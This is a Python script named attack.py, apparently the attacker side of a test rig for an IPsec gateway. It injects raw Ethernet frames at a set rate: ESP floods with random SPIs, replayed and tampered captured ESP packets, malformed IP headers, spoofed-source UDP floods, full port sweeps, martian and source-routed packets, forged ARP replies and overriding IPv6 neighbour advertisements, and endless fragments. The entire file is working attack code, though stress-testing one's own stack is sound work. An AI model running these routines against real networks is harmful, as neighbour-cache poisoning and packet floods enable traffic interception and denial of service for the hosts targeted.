"""An attacker on the wire, for so many seconds, at most RATE frames a second (0: as fast as it can); prints how many it sent.

  attack.py NIC KIND SRC-MAC DST-MAC FROM HOST SPI CAPTURE SECONDS RATE

  spi       ESP of random SPIs                     icv      packets of CAPTURE, renumbered, the integrity check value wrong
  replay    packets of CAPTURE again               jump     packets of CAPTURE with numbers far ahead
  sizes     ESP and AH of every length, IP headers that lie about theirs
  flows     clear UDP, each datagram another flow  ports    clear UDP and TCP to every port
  martian   from addresses nobody can have, and with a source route
  arp nd    answers nobody asked for: HOST's neighbour FROM is here
  fragments pieces of datagrams that never end
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

from frame import capture, checksum, mac


def ip(src, dst, proto, payload, ident=1, frag=0, options=b"", total=None, ihl=None):
    size = 20 + len(options)
    h = struct.pack("!BBHHHBBH", 0x40 | (size // 4 if ihl is None else ihl), 0, size + len(payload) if total is None else total,
                    ident, frag, 64, proto, 0)
    h += ipaddress.ip_address(src).packed + ipaddress.ip_address(dst).packed + options
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload


def captured(name, spi):
    """IP packets of a pcap file that carry ESP of that SPI."""
    for frame in capture(name):
        if len(frame) >= 42 and frame[12:14] == b"\x08\0" and frame[23] == 50 and frame[34:38] == struct.pack("!I", spi):
            yield frame[14:]


def changed(packet, seq=0, flip=False):
    p = bytearray(packet)
    n = struct.unpack("!I", p[24:28])[0]
    p[24:28] = struct.pack("!I", (n + seq) & 0xffffffff)
    if flip:
        p[-1] ^= 0x55
    return bytes(p)


def udp(port, text=b"attack"):
    return struct.pack("!HHHH", random.randrange(1, 65536), port, 8 + len(text), 0) + text


def syn(port):
    return struct.pack("!HHIIBBHHH", 6666, port, 1, 0, 0x50, 2, 65535, 0, 0)


nic, kind, src_mac, dst_mac, source, host, spi, name, seconds, rate = sys.argv[1:]
spi, seconds, rate, rnd = int(spi, 0), float(seconds), int(rate), random.Random(7)
link, N = mac(dst_mac) + mac(src_mac) + b"\x08\0", 4096
if kind in ("icv", "replay", "jump"):
    good = list(captured(name, spi))
    if len(good) < 50:
        sys.exit(f"only {len(good)} packets in {name}")
if kind == "spi":
    packets = [ip(source, host, 50, struct.pack("!II", rnd.randrange(1 << 32), i) + os.urandom(84)) for i in range(N)]
elif kind == "icv":
    packets = [changed(rnd.choice(good), 10000 + i % 50, True) for i in range(N)]
elif kind == "replay":
    packets = good
elif kind == "jump":
    packets = [changed(rnd.choice(good), rnd.randrange(1 << 20, 1 << 31)) for _ in range(N)]
elif kind == "sizes":
    packets = []
    for n in list(range(120)) + [1400, 1479, 1480]:
        body = (struct.pack("!II", spi, 1 << 20) + os.urandom(1500))[:n]
        packets += [ip(source, host, 50, body), ip(source, host, 51, body), ip(source, host, 50, body, total=20 + n // 2),
                    ip(source, host, 50, body, total=65535), ip(source, host, 50, body, ihl=15), ip(source, host, 50, body, ihl=2),
                    ip(source, host, 50, body, total=0)]
elif kind == "flows":
    packets = [ip(f"10.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}", host, 17, udp(rnd.randrange(1, 65536)))
               for _ in range(8 * N)]
elif kind == "ports":
    packets = [ip(source, host, 17, udp(i)) for i in range(1, 65536)] + [ip(source, host, 6, syn(i)) for i in range(1, 65536)]
    rnd.shuffle(packets)
elif kind == "martian":
    route = bytes([131, 7, 4]) + ipaddress.ip_address(host).packed + b"\0"
    packets = [ip(a, host, p, udp(7000)) for p in (17, 6, 50) for a in
               ("127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", host, "240.0.0.1", "169.254.1.1")]
    packets += [ip(source, host, p, udp(7000), options=route) for p in (17, 50)]
elif kind == "arp":
    mine, asked = mac(src_mac), ipaddress.ip_address(source).packed
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mine + asked + mac(dst_mac) + ipaddress.ip_address(host).packed
    link, packets = mac(dst_mac) + mine + b"\x08\x06", [body]
elif kind == "nd":
    ends = ipaddress.ip_address(source).packed + ipaddress.ip_address(host).packed
    # an advertisement that overrides (RFC 4861 4.4), with the address of the link
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ends[:16] + b"\2\1" + mac(src_mac)
    body = body[:2] + struct.pack("!H", checksum(ends + struct.pack("!II", len(body), 58) + body)) + body[4:]
    link = mac(dst_mac) + mac(src_mac) + b"\x86\xdd"
    packets = [struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + ends + body]
elif kind == "fragments":
    packets = [ip(source, host, rnd.choice((17, 50)), bytes(600), ident=rnd.randrange(65536), frag=0x2000 | rnd.choice((0, 0, 75)))
               for _ in range(N)]
else:
    sys.exit(f"attack.py: what is {kind}?")
frames = [(link + p).ljust(60, b"\0") for p in packets]
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
    s.bind((nic, 0))
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < seconds:
        if rate and sent > (time.monotonic() - start) * rate:
            time.sleep(0.001)
            continue
        for f in frames[sent % len(frames):][:8]:
            try:
                s.send(f)
                sent += 1
            except OSError:
                time.sleep(0.0005)
print("sent", sent)
